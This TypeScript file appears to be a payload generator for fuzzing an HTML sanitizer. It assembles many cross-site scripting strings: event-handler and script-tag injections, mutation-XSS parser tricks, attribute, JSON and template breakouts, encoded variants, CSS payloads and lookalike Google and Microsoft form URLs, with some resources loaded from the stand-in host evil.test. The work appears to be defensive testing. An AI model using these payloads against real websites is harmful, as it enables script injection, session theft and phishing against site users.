import { pick, type Random } from '../../random.ts'
import { makeCode, makePageUrl, makeScriptUrl } from './code.ts'
import { ADDRESSES, HANDLERS, INNOCENT, SEPARATORS, TAGS, TRIGGERS } from './words.ts'

type Shape = (random: Random, id: number) => string

const quoted = (random: Random, value: string) =>
  pick(random, [
    `"${value.replaceAll('"', '&quot;')}"`,
    `'${value}'`,
    value,
    `\`${value}\``,
    `"${value}`,
  ])

const handler: Shape = (random, id) => {
  const gap = () => pick(random, SEPARATORS)
  const code = quoted(random, makeCode(random, id))
  const attribute = `${pick(random, HANDLERS)}=${code}`
  const close = pick(random, ['>', ' >', '/>', '', '//', `>${pick(random, INNOCENT)}`])
  return `<${pick(random, TAGS)}${gap()}${pick(random, TRIGGERS)}${gap()}${attribute}${close}`
}

const address: Shape = (random, id) => {
  const tag = pick(random, TAGS)
  const url = quoted(random, makePageUrl(random, id))
  const more = pick(random, [
    '',
    ' target=_self',
    ' target=_top',
    ' type=text/html',
    ' rel=stylesheet',
  ])
  return `<${tag} ${pick(random, ADDRESSES)}=${url}${more}>${pick(random, INNOCENT)}</${tag}>`
}

const link: Shape = (random, id) => {
  const url = quoted(random, makePageUrl(random, id))
  return pick(random, [
    `<a href=${url}>${pick(random, INNOCENT)}</a>`,
    `<svg><a xlink:href=${url}><text y=9>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values=${url} /><text y=9>x</text></a></svg>`,
    `<math><mtext href=${url}>x</mtext></math>`,
    `<form action=${url}><input type=submit autofocus></form>`,
    `<button form=f formaction=${url}>x</button><form id=f></form>`,
    `<map name=m><area href=${url}></map><img usemap=#m>`,
    `<meta http-equiv=refresh content="0;url=${makePageUrl(random, id)}">`,
    `<iframe src=${url}></iframe>`,
    `<object data=${url}></object>`,
    `<embed src=${url}>`,
    `[x](${makePageUrl(random, id)})`,
    makePageUrl(random, id),
  ])
}

const script: Shape = (random, id) => {
  const [code, url] = [makeCode(random, id), makeScriptUrl(random, id)]
  return pick(random, [
    `<script>${code}</script>`,
    `<script>${code}`,
    `<ScRiPt >${code}</sCrIpT >`,
    `<script/x=">"\n>${code}</script\n>`,
    `<script type=module>${code}</script>`,
    `<script src="${url}"></script>`,
    `<script src='${url}' async defer></script>`,
    `<script><!--\n${code}\n//--></script>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<svg><script>${code}</script></svg>`,
    `<svg><script href="${url}"/></svg>`,
    `<svg><script xlink:href='${url}'></script>`,
    `<svg><script>${[...code].map((letter) => `&#${letter.codePointAt(0)};`).join('')}</script>`,
    `<math><script>${code}</script></math>`,
    `<script id=__NEXT_DATA__>self.__next_f.push([1,"x"]);${code}</script>`,
    `<script>self.__next_f.push([1,""])</script><script>${code}</script>`,
    `<template shadowrootmode=open><script>${code}</script></template>`,
    `<iframe srcdoc="<script>${code.replaceAll('"', '&quot;')}</script>"></iframe>`,
    `<object type=text/html data="data:text/html,<script>top.postMessage(${id},'*')</script>"></object>`,
    `<link rel=preload as=script href="${url}" onload="${code.replaceAll('"', '&quot;')}">`,
    `<link rel=modulepreload href="${url}"><base href="//evil.test/">`,
  ])
}

const style: Shape = (random, id) => {
  const code = makeCode(random, id).replaceAll('"', '&quot;')
  return pick(random, [
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${code}">x</p>`,
    `<p style="width:expression(${code})">x</p>`,
    `<p style="background:url(javascript:${code})">x</p>`,
    `<p style="background:url(//evil.test/${id})">x</p>`,
    `<style>@import '//evil.test/${id}.css';</style>`,
    `<style>*{background:url(//evil.test/${id})}</style>`,
    `<link rel=stylesheet href="//evil.test/${id}.css">`,
    `<p style="-moz-binding:url(//evil.test/${id}.xml#x);behavior:url(x.htc)">x</p>`,
    `<style></style\t><img src=x onerror="${code}">`,
    `<p style="position:fixed;inset:0;z-index:9999"><a href=//evil.test/${id}>x</a></p>`,
    `<div style="x:\\65xpression(${code})">`,
  ])
}

/** What one parser reads as text and the next one, reading what the first has written, as an element. */
const mutation: Shape = (random, id) => {
  const image = `<img src=x onerror=${makeCode(random, id).replaceAll(/[\s"'`>]/g, (sign) => `&#${sign.codePointAt(0)};`)}>`
  return pick(random, [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image.replaceAll('<', '&lt;')}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><style><a title="</style>${image}"></svg>`,
    `<math></p><style><!--</style>${image}--></style></math>`,
    `<noscript><p title="</noscript>${image}">`,
    `<textarea><a title="</textarea>${image}">`,
    `<title><a title="</title>${image}"></title>`,
    `<xmp><p title="</xmp>${image}">`,
    `<noembed><p title="</noembed>${image}">`,
    `<noframes><p title="</noframes>${image}">`,
    `<iframe><p title="</iframe>${image}">`,
    `<plaintext>${image}`,
    `<template><p>${image}</template>`,
    `<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
    `<select><option><style></option></select>${image}</style>`,
    `<svg><foreignobject><p><style><!--</style></p>${image}--></foreignobject></svg>`,
    `<svg><desc><table><svg><title><p id="</title>${image}"></svg></table></desc></svg>`,
    `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
    `<svg><annotation-xml><foreignobject><style><!--</style><p id="-->${image}">`,
    `<!-->${image}-->`,
    `<!--!>${image}<!-->`,
    `<!--x--!>${image}-->`,
    `<![CDATA[<a>]]>${image}`,
    `<svg><![CDATA[><img src=x>]]>${image}</svg>`,
    `<?xml version="1.0"?>${image}`,
    `<!DOCTYPE x [<!ENTITY y "${image.replaceAll('"', '')}">]>&y;`,
    `<table><tr><td><table><p>${image}`,
    `<a><table><a>${image}</table></a>`,
    `<p><b><i><u>${image}</p></b></u></i>`,
    `${'<div><svg><p>'.repeat(40)}${image}`,
    `<p id="`.repeat(7) + image,
  ])
}

/** What breaks out of a place that is not HTML text: an attribute, a script, JSON, XML, a template. */
const breakout: Shape = (random, id) => {
  const code = makeCode(random, id)
  const inner = pick(random, [
    `<script>${code}</script>`,
    `<img src=x onerror="${code.replaceAll('"', '&quot;')}">`,
  ])
  return pick(random, [
    `">${inner}`,
    `'>${inner}`,
    `" autofocus tabindex=1 onfocus="${code}`,
    `' onmouseover='${code}`,
    `</script>${inner}`,
    `"}]}</script>${inner}`,
    `\\"}</script>${inner}`,
    `]]>${inner}<![CDATA[`,
    `--></style></title></textarea></noscript>${inner}`,
    inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    inner.replaceAll('<', '&amp;lt;'),
    encodeURIComponent(inner),
    encodeURIComponent(encodeURIComponent(inner)),
    [...inner]
      .map((letter) => `\\u${(letter.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`)
      .join(''),
    inner.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    inner.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    `\u2028${code}//${inner}`,
    `\`;${code}//`,
    `';${code}//`,
    `\${${code}}`,
    `{{constructor.constructor(${JSON.stringify(code)})()}}`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
    `\r\n\r\n${inner}`,
    `\u202e${inner}\u2066`,
  ])
}

/** What looks like a form of a service that may be framed, and is not, or brings something along. */
const embed: Shape = (random, id) => {
  const code = makeCode(random, id).replaceAll('"', '&quot;')
  const host = pick(random, ['docs.google.com', 'forms.office.com', 'forms.cloud.microsoft'])
  const path = pick(random, [
    '/forms/d/e/x/viewform',
    '/Pages/ResponsePage.aspx?id=x',
    '/r/x',
    '/e/x',
  ])
  const url = pick(random, [
    `https://${host}${path}`,
    `https://${host}.evil.test${path}`,
    `https://${host}@evil.test${path}`,
    `https://evil.test/${host}${path}`,
    `https://evil.test#${host}${path}`,
    `https://evil.test\\@${host}${path}`,
    `https://${host}:444${path}`,
    `http://${host}${path}`,
    `//${host}${path}`,
    `https://${host}/url?q=https://evil.test/${id}`,
    `https://${host}/forms/..%2f../evil`,
    `https://${host}/forms/../amp/s/evil.test/${id}`,
    `https://d\u043ecs.google.com${path}`,
    `javascript:${makeCode(random, id)}//${host}${path}`,
    `data:text/html,${host}${path}<script>top.postMessage(${id},'*')</script>`,
  ])
  return pick(random, [
    url,
    `<iframe src="${url}"></iframe>`,
    `<iframe src="${url}" onload="${code}"></iframe>`,
    `<iframe src="${url}" srcdoc="<script>${code}</script>"></iframe>`,
    `<iframe src="https://${host}${path}"></iframe><iframe src="${url}"></iframe>`,
    `<IFRAME SRC=${url} src=https://${host}${path}>`,
    `<iframe src="${url}"><script>${code}</script></iframe>`,
    `<div><iframe name=x src="${url}" allow="*" sandbox></iframe><img src=x onerror="${code}"></div>`,
  ])
}

/** Each kind as often as the others, handlers and parsers' quarrels twice. */
export const shapes: readonly [Shape, ...Shape[]] = [
  ...([
    handler,
    handler,
    mutation,
    mutation,
    address,
    link,
    script,
    style,
    breakout,
    embed,
  ] as const),
]
